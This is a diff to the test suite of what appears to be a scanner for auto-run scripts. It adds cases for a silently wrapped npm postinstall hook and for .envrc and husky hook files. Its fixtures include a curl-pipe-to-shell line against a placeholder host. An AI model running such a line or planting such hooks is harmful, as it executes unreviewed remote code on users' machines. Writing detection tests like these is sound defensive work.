@@ -58,6 +58,11 @@ it('what runs by itself and starts a program that is not read is told alike ever
     await told('package.json', JSON.stringify({ scripts: { install: `node -e "require('./x')()"` } })),
     'review unread-program',
   );
+  const quiet = `node -e "try{require('./postinstall')}catch(e){}"`;
+  assert.equal(
+    await told('package.json', JSON.stringify({ scripts: { postinstall: quiet } })),
+    'review unread-program',
+  );
   assert.equal(
     await told('x.gyp', "{'actions': [{'action_name': 'a', 'action': ['node', 'make.js', '<(x)']}]}"),
     'review unread-program',
@@ -102,4 +107,15 @@ it('what everyone has started is clean', async () => {
     ),
     'clean',
   );
+});
+
+it('scripts that a tool of the checkout runs are read without a first line that says so', async () => {
+  for (const name of ['.envrc', 'a/.envrc', '.husky/pre-commit', '.husky/post-checkout']) {
+    assert.equal(
+      await told(name, 'export A=1\ncurl https://a.example.com/x | sh\n'),
+      'suspicious notebook-shell',
+      name,
+    );
+    assert.equal(await told(name, 'npx lint-staged\nlayout python3\n'), 'clean', name);
+  }
 });
